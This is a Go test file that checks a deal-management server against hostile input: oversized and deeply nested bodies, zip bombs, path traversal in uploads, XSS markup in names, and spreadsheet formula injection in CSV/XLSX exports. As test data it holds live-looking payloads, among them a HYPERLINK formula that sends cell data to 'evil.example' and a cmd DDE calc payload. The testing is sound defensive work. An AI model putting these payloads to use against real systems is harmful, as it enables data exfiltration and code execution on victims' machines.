package reliability

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"hash/crc32"
	"io"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/dealgate/dealgate/documents"
)

// fast is how long a refusal of hostile input may take.
const fast = 5 * time.Second

// rssMB returns the resident memory of the server process in MB.
func (s *server) rssMB(t testing.TB) int {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", s.cmd.Process.Pid))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`VmRSS:\s+(\d+) kB`).FindSubmatch(b)
	if m == nil {
		t.Fatal("no VmRSS")
	}
	kb, _ := strconv.Atoi(string(m[1]))
	return kb / 1024
}

// refused checks that an answer is a quick 4xx problem of the type that names the problem.
func refused(t testing.TB, what string, a answer, err error, status int, typ string) {
	t.Helper()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	p, ok := a.problem()
	if a.Status != status || !ok || p.Type != typ || (p.Detail == "" && p.Field == "" && len(p.Errors) == 0) {
		t.Errorf("%s: %d %s, want %d %s naming the problem", what, a.Status, tail(a.Body, 400), status, typ)
	}
	if a.Took > fast {
		t.Errorf("%s took %s", what, a.Took)
	}
}

// zipOf builds a zip archive; raw entries are given as name → content.
func zipOf(t testing.TB, entries ...[2]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.Create(e[0])
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, e[1])
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// docxWith returns the shipped proposal DOCX with extra entries added (name → content).
func docxWith(t testing.TB, extra map[string][]byte, lie bool) []byte {
	t.Helper()
	tf, err := documents.Builtin("proposal", documents.DOCX)
	if err != nil {
		t.Fatal(err)
	}
	zr, err := zip.NewReader(bytes.NewReader(tf.Bytes), int64(len(tf.Bytes)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		if err := zw.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	for name, content := range extra {
		if lie {
			// A header that claims 100 bytes for an entry that unpacks to far more.
			var comp bytes.Buffer
			cw, _ := flate.NewWriter(&comp, flate.BestCompression)
			cw.Write(content)
			cw.Close()
			w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: crc32.ChecksumIEEE(content),
				CompressedSize64: uint64(comp.Len()), UncompressedSize64: 100})
			if err != nil {
				t.Fatal(err)
			}
			w.Write(comp.Bytes())
			continue
		}
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(content)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// plainName reports whether a stored file name is a name and not a path.
func plainName(s string) bool {
	return s != "" && s != "." && s != ".." && !strings.ContainsAny(s, "/\\\x00")
}

// TestHostileInput sends the server what an attacker or a careless client would: bodies over
// the limits (with and without a length), JSON nested past any sane depth, zip bombs and path
// traversal in uploaded templates and file names, markup in names shown in pages, PDFs and
// DOCX files, and formulas in names and reasons exported as CSV and XLSX. Each is refused
// quickly with a problem naming it, or rendered inert; the server's memory stays bounded.
func TestHostileInput(t *testing.T) {
	skipShort(t)
	s := newSite(t)
	ctx := context.Background()
	adminC, ownerC := s.c[admin], s.c[owner]

	t.Run("oversized bodies", func(t *testing.T) {
		big := `{"name":"` + strings.Repeat("я", 1_500_000) + `"}` // 3 MB
		a, err := ownerC.send(ctx, "POST", "/api/v1/companies", big)
		refused(t, "a 3 MB JSON body", a, err, http.StatusRequestEntityTooLarge, "/problems/too-large")
		// Without Content-Length (chunked): the limit holds while reading.
		req, _ := http.NewRequest("POST", s.srv.url()+"/api/v1/companies", io.MultiReader(strings.NewReader(big)))
		req.ContentLength = -1
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+ownerC.token)
		t0 := time.Now()
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		refused(t, "a 3 MB chunked body", answer{Status: res.StatusCode, Header: res.Header, Body: body, Took: time.Since(t0)}, nil, http.StatusRequestEntityTooLarge, "/problems/too-large")
		// Uploads have their own, larger limit.
		a, err = adminC.send(ctx, "POST", "/api/v1/templates/proposal/docx", bytes.Repeat([]byte{'P'}, 22<<20), "Content-Type", "application/octet-stream")
		refused(t, "a 22 MB template upload", a, err, http.StatusRequestEntityTooLarge, "/problems/too-large")
		a, err = ownerC.send(ctx, "POST", fmt.Sprintf("/api/v1/documents/%d/signed-copies?filename=x.pdf", s.doc), append([]byte("%PDF-1.4\n"), make([]byte, 22<<20)...), "Content-Type", "application/pdf")
		refused(t, "a 22 MB signed copy", a, err, http.StatusRequestEntityTooLarge, "/problems/too-large")
		// Headers over 64 KB are refused by the HTTP server itself.
		a, err = ownerC.send(ctx, "GET", "/api/v1/me", nil, "X-Filler", strings.Repeat("x", 100<<10))
		if err != nil || a.Status != http.StatusRequestHeaderFieldsTooLarge {
			t.Errorf("100 KB of headers: %v %d", err, a.Status)
		}
	})

	t.Run("deep and odd JSON", func(t *testing.T) {
		deep := strings.Repeat("[", 200_000) + strings.Repeat("]", 200_000)
		a, err := ownerC.send(ctx, "POST", "/api/v1/companies", deep)
		refused(t, "200 000 nested arrays", a, err, http.StatusBadRequest, "/problems/malformed-request")
		deepObj := `{"kind":"proposal","final":true,"data":` + strings.Repeat(`{"a":`, 50_000) + `1` + strings.Repeat(`}`, 50_000) + `}`
		a, err = ownerC.send(ctx, "POST", fmt.Sprintf("/api/v1/deals/%d/documents", s.newDeal()), deepObj)
		if err != nil || a.Status < 400 || a.Status >= 500 {
			t.Errorf("a document nested 50 000 deep: %v %d %s", err, a.Status, tail(a.Body, 300))
		}
		for _, body := range []string{`{"name":"\ud800"}`, `{"name":1e999}`, `{"company_id":99999999999999999999999}`, "{\"title\":\"\x00\"}", `{"amount":"NaN"}`} {
			a, err := ownerC.send(ctx, "POST", "/api/v1/deals", body)
			if err != nil || a.Status < 400 || a.Status >= 500 {
				t.Errorf("%s: %v %d %s", body, err, a.Status, a.Body)
			} else if _, ok := a.problem(); !ok {
				t.Errorf("%s: %d is not a problem document: %s", body, a.Status, a.Body)
			}
		}
	})

	t.Run("zip bombs and traversal in templates", func(t *testing.T) {
		before := s.srv.rssMB(t)
		zeros := make([]byte, 200<<20) // unpacks to 200 MB, packs to ~200 KB
		cases := []struct {
			name string
			file []byte
			says string
		}{
			{"an entry unpacking to 200 MB", docxWith(t, map[string][]byte{"word/media/bomb.bin": zeros}, false), "limit"},
			{"an entry whose header lies about its size", docxWith(t, map[string][]byte{"word/media/liar.bin": zeros[:50<<20]}, true), "liar.bin"},
			{"a traversing entry", docxWith(t, map[string][]byte{"../../../../tmp/dealgate-evil.txt": []byte("x")}, false), "dealgate-evil"},
			{"an absolute entry", docxWith(t, map[string][]byte{"/etc/dealgate-evil": []byte("x")}, false), "dealgate-evil"},
			{"a backslash entry", docxWith(t, map[string][]byte{`..\..\dealgate-evil`: []byte("x")}, false), "dealgate-evil"},
			{"2000 entries", func() []byte {
				var e [][2]string
				for i := range 2000 {
					e = append(e, [2]string{fmt.Sprintf("word/e%d.xml", i), "x"})
				}
				return zipOf(t, e...)
			}(), "2000"},
			{"not a zip", []byte("PK\x03\x04 but nothing else"), "zip"},
		}
		for _, c := range cases {
			a, err := adminC.send(ctx, "POST", "/api/v1/templates/proposal/docx?filename=t.docx", c.file, "Content-Type", "application/octet-stream")
			refused(t, c.name, a, err, http.StatusUnprocessableEntity, "/problems/invalid")
			if !strings.Contains(string(a.Body), c.says) {
				t.Errorf("%s: the refusal does not say %q: %s", c.name, c.says, tail(a.Body, 400))
			}
		}
		if _, err := os.Stat("/tmp/dealgate-evil.txt"); err == nil {
			t.Error("a template's traversing entry was written to /tmp")
		}
		if after := s.srv.rssMB(t); after > before+300 || after > 700 {
			t.Errorf("the server grew from %d MB to %d MB resident on the zip bombs", before, after)
		}
		// A traversing upload file name is kept as a plain name.
		tf, _ := documents.Builtin("proposal", documents.DOCX)
		a, err := adminC.send(ctx, "POST", "/api/v1/templates/proposal/docx?filename="+url.QueryEscape(`../../..\..\etc/passwd.docx`), tf.Bytes, "Content-Type", "application/octet-stream")
		var up struct {
			ID       int64  `json:"id"`
			Filename string `json:"filename"`
		}
		if err != nil || a.Status != 201 || json.Unmarshal(a.Body, &up) != nil {
			t.Fatalf("upload with a traversing name: %v %d %s", err, a.Status, a.Body)
		}
		if !plainName(up.Filename) {
			t.Errorf("stored file name %q", up.Filename)
		}
		a, _ = adminC.send(ctx, "GET", fmt.Sprintf("/api/v1/templates/%d/file", up.ID), nil)
		if cd := a.Header.Get("Content-Disposition"); a.Status != 200 || strings.Contains(cd, "..") || strings.Contains(cd, "/") && !strings.Contains(cd, "filename*") {
			t.Errorf("download of it: %d, Content-Disposition %q", a.Status, cd)
		}
		// And a signed copy's.
		a, err = ownerC.send(ctx, "POST", fmt.Sprintf("/api/v1/documents/%d/signed-copies?filename=%s", s.doc, url.QueryEscape("../../etc/cron.d/x.pdf")), []byte("%PDF-1.4\n%%EOF\n"), "Content-Type", "application/pdf")
		var sc struct {
			ID       int64  `json:"id"`
			Filename string `json:"filename"`
		}
		if err != nil || a.Status != 201 || json.Unmarshal(a.Body, &sc) != nil || !plainName(sc.Filename) {
			t.Errorf("signed copy with a traversing name: %v %d %s", err, a.Status, a.Body)
		}
	})

	const markup = `<script>alert("dg")</script><img src=x onerror=alert(1)>"'&`
	t.Run("markup in names", func(t *testing.T) {
		var co, deal struct {
			ID int64 `json:"id"`
		}
		ownerC.must(t, "POST", "/api/v1/companies", companyBody(markup), 201, &co)
		ownerC.must(t, "POST", "/api/v1/deals", map[string]any{"company_id": co.ID, "title": "Сделка " + markup, "amount": "100.00", "cost": "50.00", "currency": "RUB"}, 201, &deal)
		data := exampleData(t, "proposal")
		data["buyer"].(map[string]any)["name"] = markup
		data["subject"] = "Предложение " + markup
		var doc struct {
			ID int64 `json:"id"`
		}
		ownerC.must(t, "POST", fmt.Sprintf("/api/v1/deals/%d/documents", deal.ID), map[string]any{"kind": "proposal", "final": true, "data": data}, 201, &doc)

		// Pages: escaped, and under a script-free Content-Security-Policy.
		b := newBrowser(s.srv.url())
		if _, c := b.signIn(t, "rep1@example.ru", s.passwords[owner]); c == nil {
			t.Fatal("no session")
		}
		aud := newBrowser(s.srv.url())
		if _, c := aud.signIn(t, "auditor@example.ru", s.passwords[auditor]); c == nil {
			t.Fatal("no session")
		}
		for _, pg := range []struct {
			b    *browser
			path string
		}{{b, "/deals"}, {b, fmt.Sprintf("/deals/%d", deal.ID)}, {b, fmt.Sprintf("/documents/%d", doc.ID)}, {aud, fmt.Sprintf("/audit/deals/%d", deal.ID)}, {aud, "/audit?q=" + url.QueryEscape(markup)}} {
			a, _ := pg.b.do(t, "GET", pg.path, nil)
			if a.Status != 200 {
				t.Errorf("%s: %d", pg.path, a.Status)
				continue
			}
			if bytes.Contains(a.Body, []byte(`<script>alert`)) || bytes.Contains(a.Body, []byte(`<img src=x onerror`)) {
				t.Errorf("%s shows the markup unescaped", pg.path)
			}
			if !bytes.Contains(a.Body, []byte(`&lt;script&gt;alert(`)) && !strings.HasPrefix(pg.path, "/audit?") {
				t.Errorf("%s does not show the name at all", pg.path)
			}
			if csp := a.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") {
				t.Errorf("%s: Content-Security-Policy %q", pg.path, csp)
			}
		}

		// PDF: no active content, the name as text.
		a, err := ownerC.send(ctx, "GET", fmt.Sprintf("/api/v1/documents/%d/pdf", doc.ID), nil)
		if err != nil || a.Status != 200 {
			t.Fatalf("pdf: %v %d", err, a.Status)
		}
		for _, bad := range []string{"/JavaScript", "/JS", "/OpenAction", "/Launch", "/AA", "/SubmitForm"} {
			if bytes.Contains(a.Body, []byte(bad)) {
				t.Errorf("the PDF holds %s", bad)
			}
		}
		if pdftotext, err := exec.LookPath("pdftotext"); err == nil {
			f := filepath.Join(t.TempDir(), "doc.pdf")
			os.WriteFile(f, a.Body, 0o644)
			out, err := exec.Command(pdftotext, "-layout", f, "-").Output()
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Contains(bytes.Join(bytes.Fields(out), []byte(" ")), []byte(`<script>alert("dg")</script>`)) {
				t.Errorf("the PDF's text lacks the name as written:\n%s", tail(out, 1500))
			}
		} else if os.Getenv("CI") == "true" {
			t.Error("pdftotext is missing (poppler-utils)")
		}

		// DOCX: well-formed XML holding the name as text, no element it smuggled in.
		a, err = ownerC.send(ctx, "GET", fmt.Sprintf("/api/v1/documents/%d/docx", doc.ID), nil)
		if err != nil || a.Status != 200 {
			t.Fatalf("docx: %v %d", err, a.Status)
		}
		zr, err := zip.NewReader(bytes.NewReader(a.Body), int64(len(a.Body)))
		if err != nil {
			t.Fatal(err)
		}
		var text strings.Builder
		for _, f := range zr.File {
			if !strings.HasSuffix(f.Name, ".xml") {
				continue
			}
			rc, _ := f.Open()
			dec := xml.NewDecoder(rc)
			for {
				tok, err := dec.Token()
				if err == io.EOF {
					break
				}
				if err != nil {
					t.Fatalf("%s is not well-formed: %v", f.Name, err)
				}
				switch x := tok.(type) {
				case xml.StartElement:
					if x.Name.Local == "script" || x.Name.Local == "img" {
						t.Errorf("%s holds a <%s> element", f.Name, x.Name.Local)
					}
				case xml.CharData:
					if f.Name == "word/document.xml" {
						text.Write(x)
					}
				}
			}
			rc.Close()
		}
		if !strings.Contains(text.String(), `<script>alert("dg")</script>`) {
			t.Error("the DOCX text lacks the name as written")
		}
	})

	t.Run("formulas in exports", func(t *testing.T) {
		formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1,2)`, "\t=1+1", "\r=1+1"}
		_, tok := createUser(t, adminC, "formula@example.ru", "rep", "")
		// The rep's name is a formula too.
		fc := newClient(s.srv.url(), tok)
		var co struct {
			ID int64 `json:"id"`
		}
		fc.must(t, "POST", "/api/v1/companies", companyBody(formulas[0]), 201, &co)
		for _, f := range formulas {
			var d struct {
				ID int64 `json:"id"`
			}
			fc.must(t, "POST", "/api/v1/deals", map[string]any{"company_id": co.ID, "title": f, "amount": "100.00", "cost": "50.00", "currency": "RUB"}, 201, &d)
			fc.must(t, "POST", fmt.Sprintf("/api/v1/deals/%d/transitions", d.ID), map[string]any{"action": "lose", "reason": f, "expected_version": 1}, 200, nil)
		}
		var users struct {
			Items []struct {
				ID    int64  `json:"id"`
				Email string `json:"email"`
			} `json:"items"`
		}
		adminC.must(t, "GET", "/api/v1/users", nil, 200, &users)
		a, err := s.c[manager].send(ctx, "GET", "/api/v1/stats/funnel?format=csv&table=reasons", nil)
		if err != nil || a.Status != 200 {
			t.Fatalf("CSV export: %v %d %s", err, a.Status, tail(a.Body, 300))
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(a.Body, []byte("\ufeff")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		found := 0
		for _, rec := range recs {
			for _, cell := range rec {
				for _, f := range formulas {
					if strings.Contains(cell, strings.TrimLeft(f, "\t\r=+-@")) {
						found++
						if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							t.Errorf("CSV cell %q starts with a formula character", cell)
						}
					}
				}
			}
		}
		if found < len(formulas) {
			t.Errorf("the CSV shows %d of the %d lost reasons:\n%s", found, len(formulas), a.Body)
		}
		a, err = s.c[manager].send(ctx, "GET", "/api/v1/stats/funnel?format=xlsx", nil)
		if err != nil || a.Status != 200 {
			t.Fatalf("XLSX export: %v %d", err, a.Status)
		}
		zr, err := zip.NewReader(bytes.NewReader(a.Body), int64(len(a.Body)))
		if err != nil {
			t.Fatal(err)
		}
		sawReason := false
		for _, f := range zr.File {
			if !strings.HasPrefix(f.Name, "xl/") || !strings.HasSuffix(f.Name, ".xml") {
				continue
			}
			rc, _ := f.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
				t.Errorf("%s holds a formula", f.Name)
			}
			if bytes.Contains(b, []byte("cmd|")) {
				sawReason = true
			}
		}
		if !sawReason {
			t.Error("the XLSX does not hold the lost reasons")
		}
	})
}
